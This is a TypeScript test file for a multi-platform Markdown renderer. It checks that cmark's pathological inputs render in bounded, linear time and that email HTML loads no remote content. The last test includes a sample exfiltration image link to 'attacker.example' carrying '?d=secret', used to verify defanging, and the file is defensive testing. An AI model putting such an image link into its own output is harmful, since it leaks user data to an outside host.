/**
 * Rendering with a bound (ARCHITECTURE.md §6c): cmark's pathological inputs at the size of a real
 * answer (100 KB), long unbreakable runs and deep nesting render on every platform without a stack
 * overflow, keep their text, and cost time linear in their length. Time is compared with the floor of
 * the same machine at the same moment (ordinary text of the same length), so a loaded CI box does not
 * flake: a quadratic case is 10–1000× its floor, a bounded one about 1×.
 */
import { describe, expect, it } from 'vitest';
import { exceedsBounds, parseBounded, renderEmail, renderFor, RENDER_BOUNDS } from '../../src/render/index.js';

const SIZE = 100_000;
const rep = (unit: string, size = SIZE): string => unit.repeat(Math.floor(size / unit.length));
const PLATFORMS = ['telegram', 'slack', 'discord', 'email', 'cli'] as const;

/** cmark test/pathological_tests.py at ~100 KB, plus long runs and deep quotes; `shows` must be in the output. */
const CASES: { name: string; md: string; shows: string }[] = [
  { name: 'nested strong emph', md: rep('*a **a ', SIZE / 2) + 'b' + rep(' a** a*', SIZE / 2), shows: 'a' },
  { name: 'emph closers, no openers', md: rep('a_ '), shows: 'a' },
  { name: 'mismatched openers and closers', md: rep('*a_ '), shows: 'a' },
  { name: 'issue #389', md: rep('*a ', SIZE / 2) + rep('_a*_ ', SIZE / 2), shows: 'a' },
  { name: 'link openers, no closers', md: rep('[a'), shows: 'a' },
  { name: 'link closers, no openers', md: rep('a]'), shows: 'a' },
  { name: 'pattern ![[]()', md: rep('![[]()'), shows: '!' },
  { name: 'nested brackets', md: '['.repeat(SIZE / 2) + 'a' + ']'.repeat(SIZE / 2), shows: 'a' },
  { name: 'nested block quotes', md: rep('> ') + 'quoted', shows: 'quoted' },
  { name: '"> " x 2,300', md: '> '.repeat(2300) + 'deep', shows: 'deep' },
  { name: 'deeply nested lists', md: Array.from({ length: 300 }, (_, x) => '  '.repeat(x) + `* item${x}\n`).join(''), shows: 'item299' },
  { name: 'empty lines in nested lists', md: '- '.repeat(SIZE / 4) + 'x' + '\n'.repeat(SIZE / 4), shows: 'x' },
  { name: 'emph in deep blockquote', md: '>'.repeat(SIZE / 3) + rep('a*', SIZE / 3), shows: 'a' },
  { name: 'nested inlines', md: '*'.repeat(SIZE / 2) + 'a' + '*'.repeat(SIZE / 2), shows: 'a' },
  { name: 'backtick runs', md: Array.from({ length: 440 }, (_, x) => 'e' + '`'.repeat(x + 1)).join(''), shows: 'e' },
  { name: 'unclosed links', md: rep('[a](<b'), shows: 'b' },
  { name: 'unclosed <!--', md: '</' + rep('<!--'), shows: '!--' },
  { name: '< run', md: rep('<'), shows: '<' },
  { name: 'base64 blob', md: Buffer.from(Array.from({ length: SIZE }, (_, i) => (i * 7919) % 256)).toString('base64').slice(0, SIZE), shows: 'A' },
  { name: 'long URL', md: 'https://example.com/' + rep('a', SIZE - 20), shows: 'example.com' },
  { name: 'minified line 200k', md: rep('a=1;', 200_000), shows: 'a=1;' },
];

/** What a reader finds of `needle` in a platform's output (Telegram and Slack escape < as &lt;). */
function output(platform: (typeof PLATFORMS)[number], md: string): string {
  const r = renderFor(platform, md);
  return (r.chunks.join('\n') + (r.html ?? '')).replace(/&lt;/g, '<').replace(/\\(.)/g, '$1');
}

/** The best of four runs: a garbage collection or a busy neighbour inflates one run, not all four. */
function cpuMs(fn: () => unknown): number {
  let best = Infinity;
  for (let k = 0; k < 4; k++) {
    const start = process.cpuUsage();
    fn();
    const d = process.cpuUsage(start);
    best = Math.min(best, (d.user + d.system) / 1000);
  }
  return best;
}

describe('rendering with a bound', () => {
  it('pathological cases are never parsed: the bound is decided in one linear pass', () => {
    for (const c of CASES.filter((x) => !/base64|minified/.test(x.name))) expect(parseBounded(c.md).excess, c.name).not.toBeNull();
    // An ordinary long answer stays Markdown up to the size bound.
    const answer = rep('Some **bold** words, a [link](https://example.com) and `code`.\n\n', RENDER_BOUNDS.maxChars - 100);
    expect(exceedsBounds(answer)).toBeNull();
    expect(renderFor('telegram', answer).chunks[0]).toContain('<b>bold</b>');
  });

  for (const platform of PLATFORMS) {
    it(`${platform}: every case renders, keeps its text, and costs about what plain text of its length costs`, () => {
      for (const c of CASES) {
        let out = '';
        const ms = cpuMs(() => (out = output(platform, c.md)));
        const floor = cpuMs(() => output(platform, rep('plain words ', c.md.length)));
        expect(out, c.name).toContain(c.shows);
        expect(ms, `${c.name}: ${ms.toFixed(0)} ms against a floor of ${floor.toFixed(0)} ms`).toBeLessThan(Math.max(4 * floor, 100)); // issue 38: ≤ 100 ms up to 100 KB
      }
    });
  }

  it('chunking is linear in an unbreakable run (4x the length costs < 8x the time)', () => {
    for (const platform of ['telegram', 'discord', 'slack'] as const) {
      const short = cpuMs(() => renderFor(platform, rep('xY+/', 50_000)));
      const long = cpuMs(() => renderFor(platform, rep('xY+/', 200_000)));
      expect(long, platform).toBeLessThan(8 * Math.max(short, 2));
      expect(renderFor(platform, rep('xY+/', 200_000)).chunks.join('').replace(/\\/g, '')).toContain('xY+/xY+/');
    }
  });

  it('18 KB of nested strong emphasis goes out on Telegram, not as a stack overflow', () => {
    const md = rep('*a **a ', 9_000) + 'b' + rep(' a** a*', 9_000);
    const chunks = renderFor('telegram', md).chunks;
    expect(chunks.join('')).toContain('b');
    expect(chunks.join('').length).toBeGreaterThan(17_000);
  });

  it('fenced code keeps its block when an answer is shown as written', () => {
    const md = '```js\nconst a = [1, 2];\n```\n\n' + rep('> ', 200) + 'x';
    expect(parseBounded(md).excess).not.toBeNull();
    expect(renderFor('telegram', md).chunks[0]).toMatch(/^<pre><code class="language-js">const a = \[1, 2\];<\/code><\/pre>/);
  });
});

describe('e-mail HTML loads nothing when opened', () => {
  it('an image becomes a visible link; no img, stylesheet link, @import or url()', () => {
    const { html, text } = renderEmail('Chart: ![chart](https://attacker.example/p.png?d=secret)\n\n![][r]\n\n[r]: https://b.example/y.png\n\n<img src="https://c.example/z.png">');
    expect(html).not.toMatch(/<img|<link|@import|url\(|<picture|<source/i);
    expect(html).toContain('chart (<a href="https://attacker.example/p.png?d=secret">https://attacker.example/p.png?d=secret</a>)');
    expect(html).toContain('<a href="https://b.example/y.png">https://b.example/y.png</a>');
    expect(text).toContain('chart (https://attacker.example/p.png?d=secret)');
  });
});
